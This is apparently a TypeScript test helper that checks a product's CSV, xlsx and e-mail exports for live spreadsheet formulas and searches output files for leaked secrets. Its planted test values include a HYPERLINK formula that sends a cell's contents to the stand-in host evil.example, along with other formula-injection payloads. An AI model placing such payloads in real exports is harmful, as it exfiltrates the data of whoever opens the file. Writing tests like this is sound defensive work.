/** Reading what the product wrote as an attacker would hope to find it: live formulas in CSV, xlsx and e-mail, secrets anywhere. */
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { gunzipSync } from 'node:zlib';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { recordSecurityFigure } from './figures.js';

/** What a spreadsheet runs as a formula (OWASP's list), and a number, which it never needs to be kept from running. */
const FORMULA_START = /^[=+\-@\t\r]/;
const NUMBER = /^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$/;

/** Planted texts an attacker wrote, and the legitimate negative amount that must stay a number. */
export const PLANTED = {
  hyperlink: '=HYPERLINK("http://evil.example/?d="&B2,"x")',
  plus: '+1+1',
  minus: '-2+3',
  at: '@SUM(1)',
  tab: '\t=1',
  cr: '\r=1',
} as const;
export const NEGATIVE_AMOUNT = '-12.50';
export const PLANTED_TEXTS: readonly string[] = [...Object.values(PLANTED), NEGATIVE_AMOUNT];

export interface FieldCheck {
  /** Fields (or cells) read. */
  read: number;
  /** Of them, those holding a planted text at their start (after a neutralising quote). */
  hostile: number;
  neutralised: number;
  /** Fields a spreadsheet would run: anything but empty is a failure. */
  live: string[];
  /** Planted texts seen (by key of PLANTED, or 'negative amount' when seen unquoted, 'quoted amount' when quoted). */
  seen: Set<string>;
}

function emptyCheck(): FieldCheck {
  return { read: 0, hostile: 0, neutralised: 0, live: [], seen: new Set() };
}

/** One text as a spreadsheet cell: live, or holding a planted text (neutralised or not). */
function checkText(text: string, check: FieldCheck): void {
  check.read += 1;
  const quoted = text.startsWith("'");
  const value = quoted ? text.slice(1) : text;
  if (!quoted && FORMULA_START.test(text) && !NUMBER.test(text)) check.live.push(text);
  if (value === NEGATIVE_AMOUNT) check.seen.add(quoted ? 'quoted amount' : 'negative amount');
  // Trimmed too: what an input that strips spaces keeps of a leading tab or CR ('=1') is as live.
  const planted = Object.entries(PLANTED).filter(([, p]) => value.startsWith(p) || value.startsWith(p.trim()));
  for (const [key] of planted) check.seen.add(key);
  if (planted.length === 0) return;
  check.hostile += 1;
  if (quoted) check.neutralised += 1;
}

/** Field texts as a spreadsheet would take them, each checked. */
export function checkTexts(texts: readonly string[], check = emptyCheck()): FieldCheck {
  for (const text of texts) checkText(text, check);
  return check;
}

/** Every field of CSV text (RFC 4180; a quoted field may hold CR and LF) checked. */
export function checkCsv(text: string, check = emptyCheck()): FieldCheck {
  const rows = parse(text, { relax_column_count: true, bom: true }) as string[][];
  for (const row of rows) for (const field of row) checkText(field, check);
  return check;
}

/** The CSV files of a folder, plain or gzip, each checked into one result; `files` counts them. */
export function checkCsvFolder(dir: string): FieldCheck & { files: number } {
  const check = emptyCheck();
  let files = 0;
  for (const name of readdirSync(dir)) {
    const path = join(dir, name);
    if (name.endsWith('.csv.gz')) checkCsv(gunzipSync(readFileSync(path)).toString('utf8'), check);
    else if (name.endsWith('.csv')) checkCsv(readFileSync(path, 'utf8'), check);
    else continue;
    files += 1;
  }
  return { ...check, files };
}

/** The text a cell shows; a formula cell is live whatever it holds, a link out of the workbook too. */
function cellText(cell: ExcelJS.Cell, check: FieldCheck): string | null {
  const v = cell.value as unknown;
  if (
    cell.type === ExcelJS.ValueType.Formula ||
    (v && typeof v === 'object' && ('formula' in v || 'sharedFormula' in v))
  )
    check.live.push(`formula in ${cell.address}: ${JSON.stringify(v)}`);
  if (cell.hyperlink && !cell.hyperlink.startsWith('#'))
    check.live.push(`link out in ${cell.address}: ${cell.hyperlink}`);
  if (typeof v === 'string') return v;
  if (v && typeof v === 'object' && 'richText' in v)
    return (v as { richText: Array<{ text: string }> }).richText.map((r) => r.text).join('');
  if (v && typeof v === 'object' && 'text' in v) return String((v as { text: unknown }).text);
  return null;
}

/**
 * Every cell of a workbook: no formula cell at all (the product writes none; its drop-down lists are data
 * validations), no link out of the workbook, and a planted text only as a typed string (so never run: neutralised).
 */
export async function checkWorkbook(source: string | Buffer): Promise<FieldCheck> {
  const book = new ExcelJS.Workbook();
  if (typeof source === 'string') await book.xlsx.readFile(source);
  else await book.xlsx.load(source as unknown as ArrayBuffer);
  const check = emptyCheck();
  book.eachSheet((sheet) =>
    sheet.eachRow({ includeEmpty: false }, (row) =>
      row.eachCell({ includeEmpty: false }, (cell) => {
        check.read += 1;
        const text = cellText(cell, check);
        if (text === null) return;
        for (const [key, planted] of Object.entries(PLANTED))
          if (text.replace(/^'/, '').startsWith(planted)) {
            check.seen.add(key);
            check.hostile += 1;
            // A typed string: shown as text, never evaluated, whether or not it also carries the quote.
            if (cell.type === ExcelJS.ValueType.String || cell.type === ExcelJS.ValueType.RichText)
              check.neutralised += 1;
            else check.live.push(`${cell.address}: ${JSON.stringify(cell.value)}`);
          }
      }),
    ),
  );
  return check;
}

/**
 * An e-mail body's lines: one that begins with a planted text is live if the body is pasted into a sheet, so it must
 * carry the quote or not begin with it; the HTML part must hold no link to the planted address.
 */
export function checkMailText(text: string, html: string): FieldCheck {
  const check = emptyCheck();
  for (const line of text.split(/\n/)) {
    check.read += 1;
    const trimmed = line.replace(/^[ ]+/, '');
    for (const [key, planted] of Object.entries(PLANTED))
      if (trimmed.includes(planted)) {
        check.seen.add(key);
        check.hostile += 1;
        if (trimmed.startsWith(planted) && !trimmed.startsWith("'")) check.live.push(line);
        else check.neutralised += 1;
      }
  }
  if (/href=["']?https?:\/\/evil\.example/i.test(html)) check.live.push('a link to evil.example in the HTML part');
  return check;
}

/** Records one output's field counts. */
export function recordFields(name: string, check: FieldCheck): void {
  recordSecurityFigure({
    kind: 'fields',
    name,
    read: check.read,
    hostile: check.hostile,
    neutralised: check.neutralised,
  });
}

/** Every file under a folder (recursively), as one text each: gzip files unzipped, xlsx files as their XML parts. */
export async function filesText(dir: string): Promise<Array<{ path: string; text: string }>> {
  const out: Array<{ path: string; text: string }> = [];
  const visit = async (folder: string): Promise<void> => {
    for (const name of readdirSync(folder)) {
      const path = join(folder, name);
      if (statSync(path).isDirectory()) await visit(path);
      else out.push({ path, text: await fileText(path) });
    }
  };
  await visit(dir);
  return out;
}

export async function fileText(path: string): Promise<string> {
  const bytes = readFileSync(path);
  if (path.endsWith('.gz')) return gunzipSync(bytes).toString('utf8');
  if (path.endsWith('.xlsx')) return zipText(bytes);
  return bytes.toString('utf8');
}

/** Every entry of a zip (an xlsx) as text, one after the other. */
export async function zipText(bytes: Buffer): Promise<string> {
  const zip = await JSZip.loadAsync(bytes);
  const parts: string[] = [];
  for (const entry of Object.values(zip.files)) if (!entry.dir) parts.push(await entry.async('string'));
  return parts.join('\n');
}

/**
 * Each secret searched for in an output, as written and as a URL or JSON would escape it; every one found is recorded
 * as a leak. Returns the secrets found (an empty list is the only pass).
 */
export function leakedSecrets(output: string, text: string, secrets: readonly string[]): string[] {
  const found: string[] = [];
  for (const secret of secrets) {
    const forms = new Set([secret, encodeURIComponent(secret), JSON.stringify(secret).slice(1, -1)]);
    let count = 0;
    for (const form of forms) count += text.split(form).length - 1;
    if (count > 0) {
      found.push(secret);
      recordSecurityFigure({ kind: 'leak', name: output, secret: `${secret.slice(0, 3)}...`, count });
    }
  }
  return found;
}
